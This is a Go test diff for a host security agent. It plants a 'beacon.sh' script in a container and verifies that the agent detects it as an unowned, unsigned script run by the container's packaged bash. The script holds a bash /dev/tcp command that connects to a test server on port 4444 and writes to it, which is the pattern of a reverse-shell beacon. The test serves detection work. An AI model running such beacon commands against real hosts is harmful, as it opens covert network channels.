@@ -1,6 +1,10 @@
 package agent
 
 import (
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
+	"os"
 	"os/exec"
 	"path/filepath"
 	"slices"
@@ -82,14 +86,58 @@ func TestContainer(t *testing.T) {
 	if n := d.Events[1].Network; n == nil || n.DstIP != testutil.ServerV4 || n.DstPort != 4444 {
 		t.Errorf("implant connection: %+v", n)
 	}
+
+	// A script dropped into the container and run by its packaged bash,
+	// connecting through bash's /dev/tcp. The host has a benign file at
+	// the same path: the script must be the container's, judged by the
+	// container's packages, in its writable layer.
+	sdir := fmt.Sprintf("/opt/argus-test-%d", os.Getpid())
+	benign := []byte("exit 0\n")
+	if err := os.MkdirAll(sdir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(sdir) })
+	if err := os.WriteFile(sdir+"/beacon.sh", benign, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	beacon := []byte(fmt.Sprintf("# %s\nexec 3<>/dev/tcp/%s/4444\necho hi >&3\nsleep 0.2\n", id, testutil.ServerV4))
+	local := filepath.Join(dir, "beacon.sh")
+	if err := os.WriteFile(local, beacon, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	testutil.Podman(t, "exec", name, "mkdir", "-p", sdir)
+	testutil.Podman(t, "cp", local, name+":"+sdir+"/beacon.sh")
+	testutil.Podman(t, "exec", name, "bash", sdir+"/beacon.sh")
+	sum := sha256.Sum256(beacon)
+	scriptSHA := hex.EncodeToString(sum[:])
+	sdet := out.await(t, "t1587 detection of the container script", func(r *event.Record) bool {
+		return r.Kind == event.KindDetection && r.Detection.SHA256 == scriptSHA
+	})
+	if d := sdet.Detection; d.Rule != "t1587_develop_capabilities_unsigned_exec" || len(d.Events) != 2 {
+		t.Fatalf("script detection %+v", d)
+	}
+	for _, ev := range sdet.Detection.Events {
+		checkContainer("script detection event "+string(ev.Kind), ev.Process)
+		sc := ev.Process.Script
+		if sc == nil || sc.Path != sdir+"/beacon.sh" || sc.SHA256 != scriptSHA || sc.Trust == nil ||
+			sc.Trust.Verdict != "unowned" || !slices.Contains(sc.PathClasses, "container_upper") {
+			t.Errorf("script detection event %s: script %+v, want %s/beacon.sh, the container's content, unowned, container_upper", ev.Kind, sc, sdir)
+		} else if ex := ev.Process.Exe; ex.Trust == nil || ex.Trust.Verdict != "package_verified" {
+			t.Errorf("bash in the container: trust %+v, want package_verified by the container's dpkg", ex.Trust)
+		}
+	}
+
 	stop()
 	stopped = true
+	if got := out.detections(t, scriptSHA); got != 1 {
+		t.Errorf("%d detections of the container script, want 1", got)
+	}
 	if got := out.detections(t, toolSHA); got != 1 {
 		t.Errorf("%d detections of the implant, want 1", got)
 	}
 	var other []string
 	for _, r := range out.records(t) {
-		if r.Kind == event.KindDetection && inContainer(&event.Record{Process: r.Detection.Events[0].Process}) && r.Detection.SHA256 != toolSHA {
+		if r.Kind == event.KindDetection && inContainer(&event.Record{Process: r.Detection.Events[0].Process}) && r.Detection.SHA256 != toolSHA && r.Detection.SHA256 != scriptSHA {
 			other = append(other, r.Detection.Events[0].Process.Exe.Path)
 		}
 	}
